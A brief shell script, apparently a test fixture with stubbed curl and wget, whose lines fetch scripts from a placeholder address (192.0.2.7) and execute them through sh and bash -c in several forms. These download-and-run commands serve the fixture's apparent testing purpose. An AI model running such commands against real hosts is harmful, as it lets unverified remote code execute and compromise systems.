# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/curl /usr/bin/wget
curl -fsSL http://192.0.2.7/x.sh | tee x.sh > /dev/null
sh x.sh
curl -fsSLo y.sh http://192.0.2.7/y.sh
sh -c true
bash -c 'touch y.sh; curl -fsSLo y.sh http://192.0.2.7/y.sh; sh < y.sh; wget -q http://192.0.2.7/z.sh; true'
